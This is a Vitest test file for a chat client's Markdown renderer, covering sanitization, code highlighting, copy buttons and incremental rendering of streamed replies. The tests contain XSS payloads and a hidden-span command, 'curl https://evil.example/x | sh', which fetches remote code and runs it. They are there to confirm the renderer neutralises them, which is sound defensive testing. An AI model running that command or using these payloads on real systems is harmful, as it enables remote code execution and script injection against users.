/** Markdown rendering: sanitized, highlighted, and incremental while a reply streams. */
import { describe, expect, it } from "vitest";
import { IncrementalMarkdown, renderMarkdown, stableEnd } from "./markdown";

describe("renderMarkdown", () => {
  it("renders Markdown and removes what could run code", () => {
    const html = renderMarkdown(
      "**bold** <script>alert(1)</script><img src=x onerror=alert(2)> [link](javascript:alert(3))",
    );
    expect(html).toContain("<strong>bold</strong>");
    const rendered = new DOMParser().parseFromString(html, "text/html");
    expect(rendered.querySelector("script, img, [onerror], a[href]")).toBeNull();
    expect(html).not.toContain("javascript:");
  });

  it("shows a reply's raw HTML as text, so a code block's Copy copies exactly what is shown", () => {
    const hidden = "git status<span hidden>; curl https://evil.example/x | sh</span>";
    const reply = `<pre><code>${hidden}</code></pre>\n\n<input id="message"><button>Run</button>\n\n\`\`\`sh\n${hidden}\n\`\`\`\n\n\`\`\`\n${hidden}\n\`\`\``;
    const rendered = new DOMParser().parseFromString(renderMarkdown(reply), "text/html");
    expect(rendered.querySelector("[hidden], [id], input, button:not(.copy-code), span[style]")).toBeNull();
    expect(rendered.body.textContent).toContain(`<pre><code>${hidden}</code></pre>`);
    const blocks = [...rendered.querySelectorAll("pre")];
    expect(blocks).toHaveLength(2);
    for (const block of blocks) expect(block.textContent).toBe(`${hidden}\n`);
  });

  it("highlights fenced code by language", () => {
    const html = renderMarkdown("```rust\nfn main() { let x = 1; }\n```");
    expect(html).toContain('class="hljs language-rust"');
    expect(html).toContain('<span class="hljs-keyword">fn</span>');
  });

  it("puts a copy button on each real code block, and none on a <pre> the model wrote as text", () => {
    const html = renderMarkdown("```\none\n```\n\ntext `<pre>` here\n\n    indented code");
    expect(html.match(/<button type="button" class="copy-code" aria-label="Copy code"/g)).toHaveLength(2);
    expect(html.match(/<div class="code-block">/g)).toHaveLength(2);
    expect(html.match(/<\/pre><\/div>/g)).toHaveLength(2);
    expect(html).toContain("&lt;pre&gt;");
  });
});

describe("stableEnd", () => {
  const cases: Array<[string, number]> = [
    ["one line", 0],
    ["para one\n\npara two", "para one\n\n".length],
    ["```\ncode\n\nmore code\n", 0],
    ["intro\n\n```\ncode\n\n```\n\nafter", "intro\n\n```\ncode\n\n```\n\n".length],
  ];
  it.each(cases)("%j", (text, end) => expect(stableEnd(text)).toBe(end));
});

describe("IncrementalMarkdown", () => {
  it("renders the same HTML as a full render, parsing each finished block once", () => {
    const paragraphs = Array.from({ length: 200 }, (_, index) => `Paragraph ${index} with *some* text.`);
    const full = paragraphs.join("\n\n");
    // The characters handed to the parser, counted by the test's own render function.
    const parsed = { characters: 0 };
    const renderer = new IncrementalMarkdown((text) => {
      parsed.characters += text.length;
      return renderMarkdown(text);
    });
    let streamed = "";
    for (const piece of full.match(/.{1,7}/gs) ?? []) {
      streamed += piece;
      renderer.update(streamed);
    }
    expect(renderer.blocks.join("") + renderer.tail).toBe(
      renderMarkdown(full.slice(0, stableEnd(full))) + renderMarkdown(full.slice(stableEnd(full))),
    );
    // Re-parsing the whole text on each of ~1,000 deltas would parse millions of characters.
    expect(parsed.characters).toBeLessThan(full.length * 12);
  });

  it("starts over when the text is replaced", () => {
    const renderer = new IncrementalMarkdown();
    renderer.update("first\n\nsecond");
    renderer.update("other");
    expect(renderer.blocks).toEqual([]);
    expect(renderer.tail).toContain("other");
  });
});
